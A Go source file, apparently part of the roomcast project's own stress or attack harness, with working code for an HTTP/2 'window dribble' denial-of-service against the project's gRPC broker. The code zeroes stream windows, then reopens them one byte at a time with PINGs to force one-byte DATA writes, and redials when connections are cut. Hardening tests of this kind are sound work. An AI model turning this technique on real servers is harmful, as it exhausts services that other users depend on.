package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	roomcastv1 "github.com/roomcast/roomcast/gen/roomcast/v1"
	"github.com/roomcast/roomcast/internal/rawh2"
)

// (p) Windows opened a byte at a time: one credential fills a room with
// history, then each connection sets its streams' windows to nothing,
// opens History calls on that room, and opens each stream's window by one
// byte at a time, and the connection's by as little, with a PING, for the
// one-byte DATA frames the server then writes. Each round costs the client
// a few small frames and the server a write; an allowance of control frames earned by the DATA the
// server writes, as the fourteenth session's first one was, pays for the
// next round. A connection whose calls end, or that the server closes, is
// dialled again.
func windowDribble(ctx context.Context, s childSpec) (string, error) {
	const connections, streams, room = 2, 10, "dribble.room"
	conns, closeAll, err := dial(s.Addr, 1)
	if err != nil {
		return "", err
	}
	c := roomcastv1.NewBrokerServiceClient(conns[0])
	for range 200 {
		if _, err := c.Publish(withKey(ctx, s.Key), &roomcastv1.PublishRequest{Room: room, Payload: &roomcastv1.PublishRequest_Data{Data: make([]byte, 4000)}}); err != nil {
			closeAll()
			return "", fmt.Errorf("filling the room: %w", err)
		}
	}
	closeAll()
	var rounds, dials, cut atomic.Int64
	var wg sync.WaitGroup
	for range connections {
		wg.Go(func() {
			for !ended(ctx) {
				dials.Add(1)
				err := dribbleOn(ctx, s, room, streams, &rounds)
				if err != nil && !ended(ctx) {
					cut.Add(1)
				}
			}
		})
	}
	wg.Wait()
	return fmt.Sprintf("%s rounds of one-byte WINDOW_UPDATEs and a PING, each answered by a DATA frame of one byte on each call, on %d connections of %d History calls at a time; %s dials, %s connections or calls ended before the attack's end",
		commas(int(rounds.Load())), connections, streams, commas(int(dials.Load())), commas(int(cut.Load()))) + attackerCPU(), nil
}

// errCallEnded ends a dribbling connection whose call the server ended.
var errCallEnded = errors.New("a call ended")

// dribbleOn runs (p) on one connection until ctx is done or the server
// ends a call or the connection.
func dribbleOn(ctx context.Context, s childSpec, room string, streams int, rounds *atomic.Int64) error {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", s.Addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	bw := bufio.NewWriterSize(conn, 64<<10)
	fr := http2.NewFramer(bw, bufio.NewReaderSize(conn, 64<<10))
	bw.WriteString(http2.ClientPreface)
	fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	req, _ := proto.Marshal(&roomcastv1.HistoryRequest{Room: room, Limit: 1000})
	msg := append([]byte{0, 0, 0, 0, byte(len(req))}, req...)
	ids := make([]uint32, streams)
	for i := range ids {
		block.Reset()
		for _, f := range rawh2.GRPCHeaders(s.Addr, roomcastv1.BrokerService_History_FullMethodName, hpack.HeaderField{Name: "authorization", Value: "Bearer " + s.Key}) {
			enc.WriteField(f)
		}
		ids[i] = uint32(2*i + 1)
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: ids[i], BlockFragment: block.Bytes(), EndHeaders: true})
		fr.WriteData(ids[i], true, msg)
	}
	if err := bw.Flush(); err != nil {
		return err
	}
	var ping [8]byte
	for !ended(ctx) {
		for _, id := range ids {
			fr.WriteWindowUpdate(id, 1)
		}
		fr.WriteWindowUpdate(0, uint32(len(ids))) // the connection's window, opened as little
		ping[0]++
		fr.WritePing(false, ping)
		if err := bw.Flush(); err != nil {
			return err
		}
		for got := 0; got < len(ids); {
			f, err := fr.ReadFrame()
			if err != nil {
				return err
			}
			switch f := f.(type) {
			case *http2.DataFrame:
				got++
			case *http2.SettingsFrame:
				if !f.IsAck() {
					fr.WriteSettingsAck()
				}
			case *http2.GoAwayFrame:
				return fmt.Errorf("GOAWAY %v", f.ErrCode)
			case *http2.HeadersFrame:
				if f.StreamEnded() {
					return errCallEnded
				}
			case *http2.RSTStreamFrame:
				return errCallEnded
			}
		}
		rounds.Add(1)
	}
	return nil
}
